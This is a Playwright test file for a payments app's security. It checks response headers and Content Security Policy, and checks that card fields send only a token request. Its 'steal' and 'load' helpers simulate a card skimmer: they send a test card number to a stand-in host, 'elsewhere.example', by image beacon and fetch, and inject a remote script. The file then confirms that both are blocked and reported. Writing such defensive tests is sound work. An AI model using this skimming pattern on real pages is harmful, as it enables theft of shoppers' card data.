import { env } from "@/lib/env";
import { newId } from "@/lib/ids";
import { expect, type Page, test } from "./fixtures";
import { PROVOKED, readReports } from "./reports";
import { fieldsIn, openShop, typeCard } from "./shop";

const NONCE = /'nonce-([\w+/=]+)'/;

/** Replaces the parts of a header that differ from answer to answer or from build to build; the rest is compared. */
const constant = (name: string, value: string) =>
  ["date", "x-request-id"].includes(name)
    ? "…"
    : value
        .replace(NONCE, "'nonce-…'")
        .replaceAll(/nonce="[^"]+"/g, 'nonce="…"')
        .replaceAll(/\/_next\/static\/[\w./-]+(?=\.\w+>)/g, "/_next/static/…");

test("a page of the dashboard has exactly these headers", async ({ page, seller }) => {
  expect(seller.accountId).toBeTruthy();
  const answer = await page.goto("/public-key");
  const headers = Object.entries((await answer?.allHeaders()) ?? {});
  expect(Object.fromEntries(headers.map(([name, value]) => [name, constant(name, value)]))).toEqual({
    "cache-control": "private, no-cache, no-store, max-age=0, must-revalidate",
    connection: "keep-alive",
    "content-encoding": "gzip",
    "content-security-policy":
      "default-src 'self'; script-src 'nonce-…' 'strict-dynamic'; style-src 'self' 'unsafe-inline'; " +
      "img-src 'self' data: blob:; font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; " +
      "form-action 'self'; frame-ancestors 'none'; report-uri /csp-reports",
    "content-type": "text/html; charset=utf-8",
    "cross-origin-opener-policy": "same-origin",
    date: "…",
    "keep-alive": "timeout=65",
    link:
      '</_next/static/….woff2>; rel=preload; as="font"; crossorigin=""; nonce="…"; type="font/woff2", ' +
      '</_next/static/….css>; rel=preload; as="style"; nonce="…"',
    "permissions-policy": "camera=(), geolocation=(), microphone=(), payment=()",
    "referrer-policy": "strict-origin-when-cross-origin",
    "strict-transport-security": "max-age=63072000; includeSubDomains",
    "transfer-encoding": "chunked",
    vary: "rsc, next-router-state-tree, next-router-prefetch, next-router-segment-prefetch, Accept-Encoding",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "x-request-id": "…",
  });
});

test("the page with the test cards runs only scripts of our build, and sends requests to no other site", async ({
  page,
  seller,
}) => {
  expect(seller.accountId).toBeTruthy();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const answer = await page.goto("/public-key");
  await page.getByRole("textbox", { name: "Origem" }).fill("https://loja.example.com");
  await page.getByRole("button", { name: "Testar" }).click();
  await expect(page.getByRole("status").getByText("https://loja.example.com")).toBeVisible();
  const [, nonce] = NONCE.exec((await answer?.headerValue("content-security-policy")) ?? "") ?? [];
  const scripts = await page.evaluate(() => [...document.scripts].map(({ src, nonce }) => ({ src, nonce })));
  expect(scripts.length).toBeGreaterThan(0);
  for (const { src, nonce: own } of scripts) {
    if (src === "") expect(own).toBe(nonce);
    else expect(src.startsWith(`${env.APP_URL}/_next/static/`), src).toBe(true);
  }
  for (const url of asked) expect(new URL(url).origin).toBe(env.APP_URL);
});

test("the card fields send no request except for a token", async ({ page, seller }) => {
  const shop = await openShop(seller);
  await page.goto(shop.origin);
  await typeCard(page);
  const body = fieldsIn(page).locator("body");
  const loaded = () => body.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
  expect(await loaded()).toEqual([]);
  await page.getByRole("button", { name: "Pagar" }).click();
  await expect(page.getByText("Pago. Obrigado!")).toBeVisible();
  expect(await loaded()).toEqual([`${env.APP_URL}/api/public/v1/card-tokens`]);
  expect(await body.evaluate(() => document.querySelectorAll("script[src], link, img, iframe, object").length)).toBe(0);
  shop.close();
});

/** Runs in the page what a skimmer would: it sends the card elsewhere, in two ways. */
async function steal(url: string) {
  document.body.append(Object.assign(new Image(), { src: `${url}/4111111111111111.png?card=4111111111111111` }));
  await fetch(`${url}/card?number=4111111111111111`, { method: "POST", mode: "no-cors" }).catch(() => {});
}

/** Loads a script from another site, as a skimmer would be loaded. */
const load = (url: string) =>
  document.head.append(
    Object.assign(document.createElement("script"), { src: `${url}/skim.js?card=4111111111111111` }),
  );

/** A new address for stolen data, the answers from it, and browsers' reports about it. */
function provoke(page: Page) {
  const url = `https://elsewhere.example${PROVOKED}/${newId()}`;
  const answered: string[] = [];
  page.on("response", (response) => response.url().startsWith(url) && answered.push(response.url()));
  const reported = () =>
    readReports()
      .filter(({ blocked }) => blocked?.startsWith(url))
      .map(({ directive, blocked, document }) => `${directive} ${blocked?.slice(url.length)} in ${document}`)
      .sort();
  return { url, answered, reported };
}

test.describe("a foreign script in a page of ours", () => {
  test.use({ allowErrors: /elsewhere\.example\/provoked-by-a-test/ });

  test("is blocked in the card fields, and reported to us without a card's number", async ({ page, seller }) => {
    const shop = await openShop(seller);
    await page.goto(shop.origin);
    await typeCard(page);
    const { url, answered, reported } = provoke(page);
    const frame = page.frames()[1];
    await frame?.evaluate(load, url);
    await frame?.evaluate(steal, url);
    const place = `in ${env.APP_URL}/fields`;
    await expect
      .poll(reported)
      .toEqual([`connect-src /card ${place}`, `img-src /….png ${place}`, `script-src-elem /skim.js ${place}`]);
    expect(answered).toEqual([]);
    shop.close();
  });

  test("is blocked in the dashboard, and reported to us without a card's number", async ({ page, seller }) => {
    await page.goto("/public-key");
    const { url, answered, reported } = provoke(page);
    await page.evaluate(steal, url);
    const place = `in ${env.APP_URL}/${seller.accountId}/public-key`;
    await expect.poll(reported).toEqual([`connect-src /card ${place}`, `img-src /….png ${place}`]);
    expect(answered).toEqual([]);
  });
});
